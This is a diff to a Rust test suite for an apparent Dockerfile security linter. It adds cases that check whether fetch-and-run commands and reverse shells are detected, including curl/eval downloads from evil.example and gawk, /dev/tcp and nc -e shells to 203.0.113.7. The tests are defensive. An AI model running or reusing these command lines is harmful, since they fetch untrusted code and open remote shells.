@@ -149,11 +149,40 @@ fn each_address_of_a_download_that_is_run_is_told_by_itself_and_first() {
         ),
         (format!("wget --progress=dot:giga -q {good} && sh i.sh"), vec![good]),
         (format!("curl --retry 3 -fsSLo /x {good} && sh /x"), vec![good]),
+        // Whichever of them is there in the end.
+        (
+            format!("curl -o /x {evil}; curl -fo /x {good} || true; sh /x"),
+            vec![evil, good],
+        ),
+        // Values of options are no addresses, and may be secrets.
+        (
+            format!("curl --ciphers ECDHE --tls-max 1.3 --user bob:hunter2 --oauth2-bearer abcDEF {good} | sh"),
+            vec![good],
+        ),
+        (format!("x=$(curl {good}) && eval \"$x\""), vec![good]),
+        (
+            format!("x=$(curl {evil}); eval \"$(curl {good})\" \"$x\""),
+            vec![evil, good],
+        ),
     ] {
         let mut found = told(&line);
         found.sort_unstable();
         assert_eq!(found, addresses, "{line}");
     }
+}
+
+#[test]
+fn more_downloaded_files_than_are_followed_are_told() {
+    let many: String = (0..64).map(|n| format!("RUN curl -o /f{n} https://e/{n}\n")).collect();
+    let text = format!("FROM debian\n{many}RUN curl -o /x https://evil.example/x && sh /x\n");
+    let findings = judged(&text);
+    let told: Vec<_> = findings.iter().filter(|one| one.rule == "ST420").collect();
+    assert_eq!((told.len(), told[0].level), (1, Level::Error), "{told:?}");
+    assert!(
+        judged(&format!("FROM debian\n{many}"))
+            .iter()
+            .all(|one| one.rule != "ST420")
+    );
 }
 
 #[test]
@@ -287,6 +316,8 @@ fn shells_on_connections_are_seen_and_waiting_for_a_port_is_not() {
             "RUN bash <(cat </dev/tcp/203.0.113.7/44)",
             "RUN source /dev/tcp/203.0.113.7/44",
             "RUN awk 'BEGIN { s = \"/inet/tcp/0/203.0.113.7/44\"; while ((s |& getline c) > 0) system(c) }'",
+            "RUN gawk 'BEGIN { t = \"/inet/tcp/0/localhost/80\"; s = \"/inet/tcp/0/203.0.113.7/44\"; while ((s |& getline c) > 0) system(c) }'",
+            "RUN gawk 'BEGIN { s = \"/inet4/tcp/0/203.0.113.7/44\"; while ((s |& getline c) > 0) system(c) }'",
             "RUN cat < /dev/tcp/203.0.113.7/1 | sh",
             "RUN nc -e /bin/sh 203.0.113.7 4444",
             "RUN ncat 203.0.113.7 4444 --exec /bin/bash",
@@ -304,6 +335,7 @@ fn shells_on_connections_are_seen_and_waiting_for_a_port_is_not() {
         &[
             "RUN nc -z localhost 80",
             "HEALTHCHECK CMD gawk 'BEGIN { s = \"/inet/tcp/0/localhost/80\"; s |& getline; close(s) }'",
+            "RUN ip -o addr | awk '/inet/ { print $4 }'",
             "RUN nc -zve host 80",
             "HEALTHCHECK CMD bash -c 'echo > /dev/tcp/127.0.0.1/80'",
             "RUN bash -c \"exec 3<>/dev/tcp/localhost/80\"",
